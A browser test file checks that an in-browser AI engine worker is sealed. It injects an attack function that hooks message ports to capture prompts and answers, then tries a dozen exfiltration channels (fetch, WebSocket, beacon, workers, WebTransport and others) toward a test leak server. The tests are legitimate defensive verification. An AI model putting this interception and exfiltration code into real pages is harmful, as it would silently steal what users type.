// The engine worker is sealed: even hostile code in it cannot send what was typed.
import type { Page } from 'playwright/test';
import { App } from './app.ts';
import { startFaultProxy } from './fault-proxy.ts';
import { startLeakServer } from './leak-server.ts';
import { expect, test } from './test.ts';

/** Put in front of the engine's own code: sees every message to the engine and tries every way out. */
function attack(elsewhere: string): string {
  return `
    const leak = (text) => {
      for (const base of [location.origin, ${JSON.stringify(elsewhere)}]) {
        const url = base + '/leak?' + encodeURIComponent(text);
        const tries = {
          fetch: () => fetch(url),
          keepalive: () => fetch(url, { method: 'POST', body: text, keepalive: true, mode: 'no-cors' }),
          xhr: () => { const xhr = new XMLHttpRequest(); xhr.open('GET', url, false); xhr.send(); },
          socket: () => new WebSocket(url.replace('http', 'ws')),
          beacon: () => navigator.sendBeacon(url, text),
          events: () => new EventSource(url),
          scripts: () => importScripts(url),
          module: () => import(url),
          worker: () => new Worker(url),
          moduleWorker: () => new Worker(url, { type: 'module' }),
          nested: () => new Worker(URL.createObjectURL(new Blob(
            ['fetch("' + url + '").catch(() => {}); import("' + url + '").catch(() => {});'],
            { type: 'text/javascript' })), { type: 'module' }),
          transport: () => new WebTransport(url.replace('http:', 'https:')),
        };
        for (const [name, run] of Object.entries(tries)) {
          try { Promise.resolve(run()).catch(() => {}); } catch {}
        }
      }
      console.log('attack ran');
    };
    const { postMessage } = MessagePort.prototype;
    MessagePort.prototype.postMessage = function (...args) {
      leak(JSON.stringify(args[0])); // every token of the answer
      return postMessage.apply(this, args);
    };
    addEventListener('message', ({ data }) => {
      data.port?.addEventListener('message', (event) => leak('SECRET ' + JSON.stringify(event.data)));
    });
  `;
}

/** Asks with the attack in the engine; returns the paths of what got out. */
async function leaksOf(page: Page, appUrl: string, withPolicy: boolean): Promise<string[]> {
  const elsewhere = await startLeakServer();
  const proxy = await startFaultProxy(appUrl);
  try {
    if (!withPolicy) proxy.withoutHeaders.add('content-security-policy');
    proxy.rewrite = (path, body) =>
      path.includes('/engine-') ? attack(elsewhere.url) + body : body;
    const attacked = page.waitForEvent('console', (message) => message.text() === 'attack ran');
    const app = await new App(page).open(proxy.url);
    const answer = await app.ask('What is the capital of France?');
    await attacked;
    await expect(answer.text).toContainText('Paris');
    const own = proxy.requests.map(({ path }) => path).filter((path) => path.includes('leak'));
    return [...elsewhere.leaked, ...own];
  } finally {
    await proxy.close();
    elsewhere.close();
  }
}

test('the privacy panel says that the engine is sealed, and what was fetched', async ({ page }) => {
  const app = await new App(page).open();
  const panel = page.getByRole('dialog', { name: 'Privacy' });
  await page.getByRole('button', { name: 'How do I know?' }).click();
  await expect(panel).toContainText('has not started yet');
  await panel.getByRole('button', { name: 'Close' }).click();
  await app.ask('What is the capital of France?');
  await page.getByRole('button', { name: 'How do I know?' }).click();
  await expect(panel).toContainText('The engine is sealed');
  await expect(panel.getByRole('rowheader')).toHaveText([/^localhost:\d+ \(this site\)$/]);
  // The model and the app's own files, no more.
  await expect(panel.getByRole('row').nth(1)).toContainText(/10[0-9] MB/);
});

test('nothing leaves the engine worker, whatever code runs in it', async ({ page, baseURL }) => {
  expect(await leaksOf(page, baseURL ?? '', true)).toEqual([]);
});

test('nor where the host sends no policy: the service worker adds it', async ({
  page,
  baseURL,
}) => {
  expect(await leaksOf(page, baseURL ?? '', false)).toEqual([]);
});

test.describe('without a service worker', () => {
  test.use({ serviceWorkers: 'block' });

  test('without the policy the same code does get out, so the test above can fail', async ({
    page,
    baseURL,
  }) => {
    const leaks = (await leaksOf(page, baseURL ?? '', false)).join();
    expect(leaks).toContain('SECRET');
  });
});
